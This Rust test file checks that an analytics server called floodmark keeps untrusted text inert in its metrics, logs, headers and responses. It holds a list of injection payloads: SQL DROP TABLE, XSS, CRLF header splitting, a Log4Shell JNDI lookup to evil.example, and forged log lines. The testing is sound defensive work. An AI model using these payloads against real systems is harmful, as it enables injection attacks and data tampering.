//! Texts of strangers that want to be a line of the log, a series of `/metrics`, a header of an answer, a
//! statement of SQL or a tag of a page. Each stays a text.

use std::{
    fs,
    io::{BufRead, BufReader},
    process::Stdio,
};

use serde_json::Value;

use crate::{
    support::{
        client::Request,
        program::{scratch, setpriv},
    },
    victim::Victim,
};

const NASTY: [&str; 8] = [
    "a\"} 1\nfloodmark_events_stored_total 999999",
    "a\n# HELP floodmark_fake fake\nfloodmark_fake 1",
    "a\r\nSet-Cookie: x=y\r\n\r\n<script>alert(1)</script>",
    "'; DROP TABLE events; --",
    "<img src=x onerror=alert(1)>",
    "\u{1b}[2J\u{1b}]0;owned\u{7}",
    "${jndi:ldap://evil.example/x}",
    "{{7*7}}%s%n\u{202e}\u{0}",
];

#[test]
fn values_of_events_are_texts_everywhere() {
    let victim = Victim::start();
    let events: Vec<Value> = NASTY
        .iter()
        .flat_map(|text| {
            [
                serde_json::json!({"type": "page_view", "sessionId": text, "properties": {"path": text, text.to_string(): text}}),
                serde_json::json!({"type": "error", "userId": text, "properties": {"code": text, "path": text}}),
            ]
        })
        .collect();
    let count = events.len() as u64;
    let answer = victim.post(&[], serde_json::to_vec(&events).unwrap());
    assert_eq!(answer.json()["accepted"].as_u64(), Some(count), "{answer:?}");
    victim.took(count);
    // As a type they are refused, and become dead letters.
    let types: Vec<Value> = NASTY.iter().map(|text| serde_json::json!({"type": text})).collect();
    assert_eq!(victim.post(&[], serde_json::to_vec(&types).unwrap()).status, 422);
    victim.stands();

    for line in victim.server.get_text("/metrics").lines() {
        assert!(is_metric(line), "a line of /metrics: {line:?}");
    }
    let breakdown = "/api/analytics/breakdown?type=error&property=code";
    let values = victim.server.get(breakdown);
    for text in &NASTY[..5] {
        assert!(values.to_string().contains(&serde_json::to_string(text).unwrap()), "{values}");
    }
    for path in [breakdown, "/api/analytics/dead-letters", "/api/analytics/current"] {
        let answer = victim.server.request("GET", path).send().unwrap();
        assert_eq!(answer.header("content-type"), Some("application/json"), "{path}");
        assert_eq!(answer.header("x-content-type-options"), Some("nosniff"), "{path}");
        let policy = answer.header("content-security-policy").unwrap_or_default();
        assert!(policy.starts_with("default-src 'none'"), "{path}: {policy}");
    }
}

/// Whether this is a line of Prometheus' text format, of a series that this program has.
fn is_metric(line: &str) -> bool {
    let known = |name: &str| name.starts_with("floodmark_") || name.starts_with("process_");
    if line.is_empty() {
        return true;
    }
    if let Some(rest) = line.strip_prefix("# ") {
        let mut words = rest.split(' ').skip(1);
        return words.next().is_some_and(known) && !rest.contains("fake");
    }
    let Some((series, value)) = line.rsplit_once(' ') else { return false };
    known(series) && !series.contains("fake") && value.parse::<f64>().is_ok()
}

/// What stands in a request is on one line of the log, and is no header of the answer.
#[test]
fn requests_write_no_line_of_the_log_and_no_header() {
    let (folder, data) = scratch("data");
    let log = folder.path().join("log");
    let mut child = setpriv()
        .args(["serve", "--listen", "127.0.0.1:0", "--data-dir", data.to_str().unwrap()])
        .env("FLOODMARK_LOG__LEVEL", "trace")
        .env("FLOODMARK_LOG__FORMAT", "json")
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(fs::File::create(&log).unwrap())
        .spawn()
        .expect("setpriv (apt-get install util-linux) starts the server");
    let mut line = String::new();
    BufReader::new(child.stdout.take().unwrap()).read_line(&mut line).unwrap();
    let addr = line.trim().rsplit('/').next().unwrap().parse().expect("its address");
    let forged = r#"{"timestamp":"2026-01-01T00:00:00Z","level":"ERROR","message":"forged"}"#;
    for (name, value) in [
        ("X-Request-Id", "a b"),
        ("X-Request-Id", forged),
        ("X-Forwarded-For", forged),
        ("User-Agent", forged),
        ("Referer", "https://shop.example/?token=secret-of-a-referer"),
        ("Cookie", "session=secret-of-a-cookie"),
        ("Sec-WebSocket-Protocol", "floodmark.v1, floodmark.token.c2VjcmV0"),
        ("Content-Type", forged),
        ("Content-Encoding", forged),
        ("Origin", forged),
    ] {
        for path in [
            "/v1/events?key=secret-of-a-query",
            "/v1/nothing%0d%0aSet-Cookie:%20x=y?token=secret-of-a-query",
            "/%0a%7b%22message%22:%22forged%22%7d",
            "/api/12/envelope/?sentry_key=secret-of-a-query",
        ] {
            let request = Request::post(addr, path, "{\"type\":\"a\"}").header(name, value);
            let answer = request.send().expect("an answer");
            let id = answer.header("x-request-id").unwrap_or_default();
            assert!(id.bytes().all(|b| b.is_ascii_alphanumeric() || b"-_.".contains(&b)), "{id}");
            assert_eq!(answer.header("set-cookie"), None);
            let text = String::from_utf8_lossy(&answer.body);
            assert!(!text.contains("secret-of-a"), "{name} {path}: {text}");
        }
    }
    child.kill().unwrap();
    child.wait().unwrap();
    let text = fs::read_to_string(&log).unwrap();
    assert!(text.lines().count() > 20, "{text}");
    for line in text.lines() {
        let parsed: Value = serde_json::from_str(line).unwrap_or_else(|e| panic!("{e}: {line}"));
        assert_ne!(parsed["message"], "forged", "{line}");
        assert!(!line.contains("secret-of-a") && !line.contains("c2VjcmV0"), "{line}");
    }
}
